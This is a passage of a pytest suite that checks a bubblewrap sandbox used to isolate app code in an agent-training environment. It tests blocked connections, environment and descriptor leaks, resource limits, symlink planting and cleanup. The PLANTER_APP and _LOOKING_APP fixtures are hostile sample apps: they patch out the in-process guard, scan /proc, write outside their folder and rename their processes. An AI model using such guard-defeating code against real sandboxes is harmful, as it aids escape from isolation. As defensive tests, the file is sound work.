        out = _call(env, "connect", path=path, abstract=abstract, port=tcp.getsockname()[1])
        for key in ("path", "abstract", "tcp", "dns"):
            assert out[key][0] == "blocked", (key, out[key])
        for s in [*listeners, tcp]:
            with pytest.raises(TimeoutError):
                s.accept()
    finally:
        for s in [*listeners, tcp]:
            s.close()


def test_raw_sqlite_attach_opens_nothing_on_the_host(side, tmp_path):
    # Blocked by the mount namespace: the host path does not exist in the sandbox.
    env = side.open()
    secret = _secret_db(tmp_path / "secret.db")
    created = tmp_path / "created.db"
    out = _call(env, "raw_sqlite", secret=str(secret), created=str(created))
    assert out["read"][0] == "blocked" and "TOPSECRET" not in json.dumps(out)
    assert not created.exists()


def test_the_parents_environment_does_not_reach_the_app(side):
    # Blocked by the allow-listed environment (Popen env= and bwrap --clearenv).
    env = side.open()
    out = _call(env, "environment")
    assert CANARY not in json.dumps(out)
    # Beyond the allow-list: PWD (bwrap --chdir) and what imports in the sandbox set themselves.
    assert set(out["environ"]) <= set(isolation.ENV_ALLOWLIST) | {"HOME", "PWD", "PYGAME_HIDE_SUPPORT_PROMPT"}


@pytest.mark.parametrize("kind", ["episode", "branch"])
def test_no_descriptor_of_the_parent_crosses(dataset, tmp_path, kind):
    # Blocked by stdio on /dev/null and a pipe, and the fork server closing every other descriptor.
    log = tmp_path / "log.txt"
    log.write_text("KEEP\n")
    saved = os.dup(1)
    fd = os.open(log, os.O_WRONLY | os.O_APPEND)
    os.dup2(fd, 1)
    try:
        with AWMEnv(path=dataset, tool_timeout=20, state_in_database=True) as fresh:
            fresh.reset(options={"task_id": "attack_1/0"})
            if kind == "branch":
                _call(fresh, "bump")
                with branch(fresh, "snapshot") as child:
                    out = _call(child, "fds")
            else:
                out = _call(fresh, "fds")
    finally:
        os.dup2(saved, 1)
        os.close(saved)
        os.close(fd)
    assert log.read_text() == "KEEP\n"
    assert out["truncate_stdout"][0] == "blocked" and out["truncate_stderr"][0] == "blocked"
    kinds = {int(k): v[1] for k, v in out["open"].items()}
    assert kinds[0] == "'/dev/null'" and kinds[1].startswith("'pipe:") and kinds[2] == kinds[1]
    # Beyond stdio only the app's own sockets (its pipe to the parent, asyncio's) and its epoll; a
    # branch also holds the database files its original had open (inside the sandbox's folder).
    sandbox_folder = f"'{fresh._workspace.sandbox.folder.path}{os.sep}"
    allowed = ("'socket:", "'anon_inode:", *([sandbox_folder] if kind == "branch" else []))
    assert all(v.startswith(allowed) for k, v in kinds.items() if k > 2), kinds


def test_resource_limits_are_hard(side):
    # Blocked by soft = hard limits set before app code runs, and no CAP_SYS_RESOURCE.
    env = side.open()
    out = _call(env, "limits")
    for name, row in out.items():
        assert row["soft"] == row["hard"] != -1, (name, row)
        assert row["raise"][0] == "blocked", (name, row)


def test_the_private_tmp_is_bounded(side):
    # Blocked by the tmpfs size bwrap gives /tmp: files below the per-file limit cannot add up past it.
    env = side.open()
    out = _call(env, "fill_tmp")
    assert isinstance(out, dict), out
    assert out["written"] <= isolation.TMP_BYTES and "No space left on device" in out["error"], out
    side.intact()


@pytest.mark.parametrize("kind", ["episode", "branch"])
def test_cpu_burn_is_stopped_by_the_cpu_limit(dataset, kind):
    # Blocked by RLIMIT_CPU: the app is killed long before the 60 s tool time limit.
    with AWMEnv(path=dataset, tool_timeout=60, limits={"cpu": 2}, state_in_database=True) as env:
        env.reset(options={"task_id": "attack_1/0"})
        target = env
        if kind == "branch":
            _call(env, "bump")
            target = branch(env, "snapshot")
        start = time.monotonic()
        obs = _call(target, "burn")
        assert "exited or broke the connection" in obs and time.monotonic() - start < 30
        assert _call(target, "bump") == {"n": 1 + (kind == "branch")}  # a new app process over the same database
        if kind == "branch":
            assert _call(env, "bump") == {"n": 2}  # the original's app was not the one stopped
            target.close()


def _sha(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("kind", ["symlink", "relative"])
def test_a_planted_symlink_is_never_followed(side, tmp_path, kind):
    # Blocked by O_NOFOLLOW + fstat through the folder's descriptor; the reset removes the link.
    target = _secret_db(tmp_path / "target.db")
    before = _sha(target)
    env = side.open()
    assert _call(env, "bump") == {"n": side.base + 1}
    assert _call(env, "plant", kind=kind, target=str(target)) == {"planted": kind}
    env.step(call_text("bump", {}))
    *_, info = env.step("done")
    assert info["success"] is False and "unusable" in info["verifier_result"]["error"]
    assert "TOPSECRET" not in json.dumps(info)
    side.stop()
    side.intact()
    assert _sha(target) == before and not (side.env.unwrapped._workspace.database).is_symlink()


@pytest.mark.parametrize("kind", ["deleted", "dir"])
def test_a_deleted_or_replaced_database_is_an_error_not_a_crash(side, kind):
    # Handled by the fstat check (a directory is not a database) and a reset that clears the folder.
    env = side.open()
    assert _call(env, "plant", kind=kind) == {"planted": kind}
    obs, *_ = env.step(call_text("bump", {}))
    assert isinstance(obs, str)
    branch(env).close()  # a branch of a broken episode does not raise either
    *_, info = env.step("done")
    if kind == "dir":
        assert info["success"] is False and "not a regular file" in info["verifier_result"]["error"]
    side.stop()
    side.intact()
    for _ in range(2):
        _fresh(side.env)
        assert _call(side.env, "bump") == {"n": 1}


def test_deep_json_from_a_verifier_fails_the_task(env):
    env.reset(options={"task_id": "attack_1/1"})
    *_, info = env.step("done")
    assert info["success"] is False and "malformed reply" in info["verifier_result"]["error"]


def test_an_integer_above_1e308_is_an_invalid_step(env):
    # Before: OverflowError out of env.step (the schema check's math.isfinite); now an invalid step naming the bound on integers.
    _fresh(env)
    obs, _, terminated, _, info = env.step(call_text("spin", {"children": 10**400, "seconds": 0}))
    assert "bound on integers" in obs and not info["action_valid"] and not terminated, obs[:300]
    assert _call(env, "bump") == {"n": 1}


def test_a_failed_reset_leaves_the_env_as_before(env):
    _fresh(env)
    assert _call(env, "bump") == {"n": 1}
    before = (env.task, env.task_index, [dict(m) for m in env.messages], list(env.actions))
    with pytest.raises(SandboxError, match="malformed reply"):
        env.reset(options={"task_id": "broken_1/0"})  # its app sends deep JSON at load
    assert (env.task, env.task_index, env.messages, env.actions) == before
    assert _call(env, "bump") == {"n": 2}  # the old episode goes on, database intact


def test_branches_of_an_app_with_memory_replay(dataset):
    # Apps loaded from files are not known to keep all state in the database: branches replay.
    with AWMEnv(path=dataset) as env:
        env.reset(options={"task_id": "attack_1/0"})
        assert _call(env, "bump_memory") == {"n": 1}
        child = branch(env)
        assert _call(child, "bump_memory") == _call(env, "bump_memory") == {"n": 2}
        child.close()
        with pytest.raises(NotImplementedError):
            branch(env, "snapshot")
    with AWMEnv(path=dataset, state_in_database=True) as env:  # a snapshot forks the running app, memory and all
        env.reset(options={"task_id": "attack_1/0"})
        _call(env, "bump_memory")
        child = branch(env, "snapshot")
        assert _call(child, "bump_memory") == _call(env, "bump_memory") == {"n": 2}
        assert _call(child, "bump_memory") == {"n": 3} and _call(child, "bump") == {"n": 1}
        assert _call(env, "bump_memory") == {"n": 3} and _call(env, "bump") == {"n": 1}  # each its own process and database
        child.close()
        assert _call(env, "bump_memory") == {"n": 4}  # closing the branch leaves the original's app running


_LOOKING_APP = r"""
import gc, os, sys, threading, time
from fastapi import FastAPI
app = FastAPI()

def unguard():
    sandbox = sys.modules["ttg_envs.envs.awm.sandbox.inside_guard"]
    sandbox._Guard.__call__ = lambda *a: None
    for obj in gc.get_objects():
        if isinstance(obj, sandbox._Guard):
            obj.folder, obj.read_roots, obj.databases = "/", ("/",), set()

@app.get("/look", operation_id="look")
def look():
    unguard()
    root = os.path.dirname(os.getcwd())  # the sandbox's folder, above this episode's own
    files = sorted(n for _, dirs, names in os.walk(root) for n in dirs + names if "planter" in n)
    names = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            names.append(open(f"/proc/{pid}/comm").read().strip())
        except OSError:
            pass
    return {"files": files, "planter_processes": names.count("planter-app")}
"""
# Import-time code that leaves things behind: files above its folder, a thread that goes on writing
# there while the (warm) app lives, and its processes renamed so that any sandbox sees them.
PLANTER_APP = (
    _LOOKING_APP
    + r"""
unguard()
ROOT = os.path.dirname(os.getcwd())
open(os.path.join(ROOT, "left-by-planter"), "w").write("x")
import ctypes
ctypes.CDLL(None).prctl(15, b"planter-app", 0, 0, 0)  # PR_SET_NAME

def keep_writing():
    while True:
        try:
            open(os.path.join(ROOT, "written-by-planter"), "w").write(repr(time.time()))
        except OSError:
            pass
        time.sleep(0.05)

threading.Thread(target=keep_writing, daemon=True).start()
time.sleep(0.1)
"""
)


def test_one_scenarios_code_never_meets_anothers(tmp_path):
    # Blocked by one sandbox per scenario's code: a reset to another scenario moves the episode to a
    # sandbox of its own, and the pool gives a new env only a sandbox of its scenario.
    from ttg_envs.envs.awm.env import trust_domain

    data = _write_dataset(tmp_path, [("planter_1", PLANTER_APP, [VERIFY]), ("spy_1", _LOOKING_APP, [VERIFY])])
    clean = {"files": [], "planter_processes": 0}

    def look(env, task_id):
        env.reset(options={"task_id": task_id})
        return _call(env, "look")

    with AWMEnv(path=data, tool_timeout=20) as both:
        planted = look(both, "planter_1/0")
        assert {"left-by-planter", "written-by-planter"} <= set(planted["files"]) and planted["planter_processes"] >= 1
        planter = both._workspace.sandbox
        child = branch(both)  # the planter's episode goes on in a branch, in its sandbox
        assert look(both, "spy_1/0") == clean  # the same env, another scenario: not the planter's sandbox
        spy = both._workspace.sandbox
        assert spy is not planter and spy.domain == trust_domain(both.scenario) != planter.domain
        assert child.unwrapped._workspace.sandbox is planter and _call(child, "look")["planter_processes"] >= 1
        child.close()  # the planter's sandbox goes to the pool, its warm app (and thread) alive
        with AWMEnv(path=data, scenarios=["planter_1"]) as again:
            assert again._workspace.sandbox is planter  # the same scenario's next env takes it
            look(again, "planter_1/0")
            assert look(both, "spy_1/0") == clean  # while the planter's env is open
        assert both._workspace.sandbox is spy  # resets to the same scenario stay in its sandbox
    with AWMEnv(path=data, scenarios=["spy_1"]) as later:  # the planter's env closed, its sandbox pooled
        assert later._workspace.sandbox is spy and look(later, "spy_1/0") == clean
    with AWMEnv(path=data, scenarios=["spy_1"]) as other, AWMEnv(path=data, scenarios=["spy_1"]) as another:
        assert planter not in (other._workspace.sandbox, another._workspace.sandbox)
        assert look(another, "spy_1/0") == clean


def test_missing_bwrap_refuses_with_one_clear_error(dataset, monkeypatch):
    isolation._probe.cache_clear()
    monkeypatch.setenv("PATH", "/nonexistent")
    try:
        with pytest.raises(isolation.SandboxUnavailable, match="apt-get install bubblewrap.*sandbox='python'"):
            AWMEnv(path=dataset)
    finally:
        isolation._probe.cache_clear()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with AWMEnv(path=dataset, sandbox="python") as env:
            env.reset(options={"task_id": "attack_1/0"})
            assert _call(env, "bump") == {"n": 1}  # the opt-in mode still runs apps
    assert any("in-process audit hook" in str(w.message) for w in caught)


def test_a_python_under_tmp_is_bound_over_the_private_tmp(monkeypatch, tmp_path):
    """A CI clone's venv under /tmp must stay visible: the tmpfs on /tmp is mounted before the Python binds."""
    monkeypatch.setattr(isolation, "_python_roots", lambda: ["/tmp/ci-clone/.venv", "/usr/lib/python3"])
    argv = isolation.bwrap_command(tmp_path, ["python", "-c", "pass"], isolation.UID_BASE)
    tmpfs = argv.index("--tmpfs")
    assert argv[tmpfs + 1] == "/tmp"
    bind = max(i for i, a in enumerate(argv) if a == "--ro-bind" and argv[i + 1] == "/tmp/ci-clone/.venv")
    assert tmpfs < bind


def _subprocess_env() -> dict[str, str]:
    # The package this test imports, wherever the child's interpreter looks first.
    import ttg_envs

    root = os.path.dirname(os.path.dirname(os.path.realpath(ttg_envs.__file__)))
    return {**os.environ, "PYTHONPATH": os.pathsep.join([root, os.environ.get("PYTHONPATH", "")])}


def test_a_python_reached_through_a_symlink_starts_the_sandbox(tmp_path):
    # Handled by mounting real paths and starting the interpreter by its real folder (it was
    # `setpriv: failed to execute <the symlink's path>`).
    link = tmp_path / "venv-link"
    link.symlink_to(os.path.realpath(sys.prefix), target_is_directory=True)
    python = link / "bin" / os.path.basename(sys.executable)
    code = (
        "import sys; from ttg_envs.envs.awm import AWMEnv; from ttg_envs.envs.awm.policies import call_text\n"
        "assert sys.executable.startswith(sys.argv[1]), sys.executable\n"
        "with AWMEnv(scenarios=['crm_1']) as env:\n"
        "    env.reset(options={'task_id': 'crm_1/0'})\n"
        "    print(env.step(call_text('list_deals', {}))[4]['action_valid'])\n"
    )
    done = subprocess.run([str(python), "-c", code, str(link)], capture_output=True, text=True, timeout=180, env=_subprocess_env())
    assert done.returncode == 0 and done.stdout.split()[-1:] == ["True"], done.stderr[-2000:]


def test_a_killed_hosts_folders_are_removed_at_the_next_start():
    # Handled by an flock each host holds on its sandbox folders: the next env's start deletes the
    # folders whose lock it can take (their host is gone; before, a 101 MB folder stayed in /tmp).
    code = (
        "import time; from ttg_envs.envs.awm import AWMEnv\n"
        "env = AWMEnv(scenarios=['crm_1']); env.reset(options={'task_id': 'crm_1/0'})\n"
        "print(env._workspace.sandbox.folder.path, flush=True); time.sleep(300)\n"
    )
    host = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True, env=_subprocess_env())
    try:
        from pathlib import Path

        folder = Path(host.stdout.readline().strip())
        assert folder.is_dir() and any(folder.iterdir())
    finally:
        host.kill()
        host.wait()
    assert folder.is_dir()  # the host died with -9: nothing of it could clean up
    with AWMEnv(scenarios=["crm_1"]) as env:
        assert env._workspace.sandbox.folder.path != folder
    assert not folder.exists()


_FROZEN_HOST = """
import sys, time
from ttg_envs.envs.awm import AWMEnv
from ttg_envs.envs.awm.sandbox import host_db
kind = sys.argv[1]

def freeze(path):  # report the scratch folder this call runs in, then hang in it
    print(path.parent, flush=True)
    time.sleep(300)

if kind == "build":  # building the scenario's initial database, at the episode's reset
    host_db.snapshot = freeze
env = AWMEnv(scenarios=["crm_1"])
env.reset(options={"task_id": "crm_1/0"})
if kind == "private":  # copying the episode database out of the sandbox, mid-episode
    host_db.confined_connect = freeze
    env._workspace.memo = host_db.SnapshotMemo()  # nothing remembered: the copy is parsed in a scratch folder
    env._workspace.read()
"""


@pytest.mark.parametrize("kind", ["build", "private"])
def test_a_killed_hosts_scratch_folders_are_removed_at_the_next_start(kind):
    # Handled by the flock a host holds on its scratch folders too (host_folder.scratch_folder):
    # before, a kill -9 inside building a scenario's database or copying an episode's out left
    # ttg-awm-build-* / ttg-awm-private-* folders in /tmp for good. A live host's stay.
    from pathlib import Path

    hosts = [
        subprocess.Popen([sys.executable, "-c", _FROZEN_HOST, kind], stdout=subprocess.PIPE, text=True, env=_subprocess_env())
        for _ in range(2)
    ]
    try:
        dead, live = (Path(h.stdout.readline().strip()) for h in hosts)
        assert dead.name.startswith(f"ttg-awm-{kind}-") and live.name.startswith(f"ttg-awm-{kind}-")
        assert any(dead.iterdir())
        hosts[0].kill()
        hosts[0].wait()
        assert dead.is_dir()  # nothing of the dead host could clean up
        with AWMEnv(scenarios=["crm_1"]) as env:
            env.reset(options={"task_id": "crm_1/0"})
        assert not dead.exists() and live.is_dir() and any(live.iterdir())
    finally:
        for host in hosts:
            host.kill()
            host.wait()


def test_a_diverging_replay_falls_back_to_a_fork_else_every_candidate_is_invalid(dataset):
    # Handled by TextEnv.branch (a diverged replay falls back to the env's fallback snapshot: AWM
    # forks the running app) and GuidedSelector (no branch at all: each candidate -inf, with why).
    from ttg_envs import BranchDivergenceError
    from ttg_envs.agents import GuidedSelector

    with AWMEnv(path=dataset, tool_timeout=20) as env:  # apps from files: branches replay
        _fresh(env)
        assert _call(env, "stamp") == {"ok": True}
        n = _call(env, "bump")["n"]
        with branch(env) as child:  # its replay wrote another clock value: the running app is forked instead
            assert child.unwrapped._workspace.app is not None
            assert _call(child, "bump") == {"n": n + 1}
        assert _call(env, "bump") == {"n": n + 1}
        env._workspace.stop_app()  # no running app to fork, and the replay still diverges
        with pytest.raises(BranchDivergenceError):
            branch(env)
        selector = GuidedSelector(actor=None, k=2)
        chosen = selector.choose(env, [call_text("bump", {}), call_text("bump_memory", {})])
        assert chosen.text == call_text("bump", {}) and selector.last.deltas == [float("-inf")] * 2
        assert "different engine state" in selector.last.branch_error
        assert _call(env, "bump") == {"n": n + 2}  # the episode itself goes on
